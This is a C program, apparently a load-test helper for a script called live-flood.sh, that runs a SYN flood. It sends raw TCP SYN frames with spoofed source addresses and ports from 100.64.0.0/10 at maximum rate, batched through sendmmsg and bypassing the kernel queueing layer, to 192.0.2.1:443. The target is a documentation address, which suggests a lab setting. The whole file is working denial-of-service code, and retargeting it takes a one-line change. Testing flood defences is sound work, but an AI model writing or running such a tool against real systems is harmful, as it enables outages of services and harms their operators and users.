// A SYN flood on one interface, as fast as the kernel takes it, for live-flood.sh:
//   synflood IFACE DST_MAC SECONDS
// Sends TCP SYNs from 100.64.0.0/10 (source address and port vary, so every frame is a
// flow of its own: 4M addresses times 32k ports before a tuple repeats) to
// 192.0.2.1:443, in batches of 256 through sendmmsg on an AF_PACKET socket that
// bypasses the qdisc. Prints the frames the kernel accepted ("sent=N seconds=S").
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 256, LEN = 60 };

static uint16_t fold(uint32_t sum) {
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static uint32_t sum16(const uint8_t *p, int n) {
    uint32_t s = 0;
    for (int i = 0; i + 1 < n; i += 2) s += (uint32_t)p[i] << 8 | p[i + 1];
    return s;
}

// Frame number i: its own source address and port, valid IP and TCP checksums.
static void build(uint8_t *f, const uint8_t *dmac, uint64_t i) {
    memset(f, 0, LEN);
    memcpy(f, dmac, 6);
    const uint8_t smac[6] = {0x02, 0, 0, 0, 0xf1, 0x0d};
    memcpy(f + 6, smac, 6);
    f[12] = 0x08;
    uint8_t *ip = f + 14, *tcp = f + 34;
    uint32_t src = 0x64400000u | (uint32_t)(i & 0x3fffff);
    uint16_t sport = (uint16_t)(1024 + ((i >> 22) % 32768));
    ip[0] = 0x45; ip[3] = 40; ip[8] = 64; ip[9] = 6;
    ip[4] = (uint8_t)(i >> 8); ip[5] = (uint8_t)i;
    ip[12] = src >> 24; ip[13] = src >> 16; ip[14] = src >> 8; ip[15] = src;
    ip[16] = 192; ip[17] = 0; ip[18] = 2; ip[19] = 1;
    uint16_t c = fold(sum16(ip, 20));
    ip[10] = c >> 8; ip[11] = c;
    tcp[0] = sport >> 8; tcp[1] = sport; tcp[2] = 443 >> 8; tcp[3] = 443 & 0xff;
    uint32_t seq = (uint32_t)(i * 2654435761u);
    tcp[4] = seq >> 24; tcp[5] = seq >> 16; tcp[6] = seq >> 8; tcp[7] = seq;
    tcp[12] = 0x50; tcp[13] = 0x02; tcp[14] = 0xfa; tcp[15] = 0xf0;
    uint32_t s = sum16(ip + 12, 8) + 6 + 20 + sum16(tcp, 20);
    c = fold(s);
    tcp[16] = c >> 8; tcp[17] = c;
}

int main(int argc, char **argv) {
    if (argc != 4) { fprintf(stderr, "usage: synflood IFACE DST_MAC SECONDS\n"); return 2; }
    uint8_t dmac[6];
    if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &dmac[0], &dmac[1], &dmac[2], &dmac[3], &dmac[4], &dmac[5]) != 6) {
        fprintf(stderr, "bad MAC %s\n", argv[2]); return 2;
    }
    double seconds = atof(argv[3]);
    int s = socket(AF_PACKET, SOCK_RAW, 0);
    if (s < 0) { perror("socket"); return 1; }
    int one = 1;
    setsockopt(s, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
    struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1]), .sll_halen = 6};
    memcpy(ll.sll_addr, dmac, 6);
    if (!ll.sll_ifindex || bind(s, (struct sockaddr *)&ll, sizeof ll) < 0) { perror("bind"); return 1; }
    static uint8_t frames[BATCH][LEN];
    struct iovec iov[BATCH];
    struct mmsghdr msgs[BATCH];
    memset(msgs, 0, sizeof msgs);
    for (int k = 0; k < BATCH; k++) {
        iov[k].iov_base = frames[k];
        iov[k].iov_len = LEN;
        msgs[k].msg_hdr.msg_iov = &iov[k];
        msgs[k].msg_hdr.msg_iovlen = 1;
    }
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    uint64_t next = 0, sent = 0;
    double elapsed = 0;
    while (elapsed < seconds) {
        for (int k = 0; k < BATCH; k++) build(frames[k], dmac, next + k);
        int n = sendmmsg(s, msgs, BATCH, 0);
        if (n > 0) {
            // Frames not taken are built again with the same numbers.
            sent += (uint64_t)n;
            next += (uint64_t)n;
        }
        clock_gettime(CLOCK_MONOTONIC, &t);
        elapsed = (double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9;
    }
    printf("sent=%llu seconds=%.2f\n", (unsigned long long)sent, elapsed);
    return 0;
}
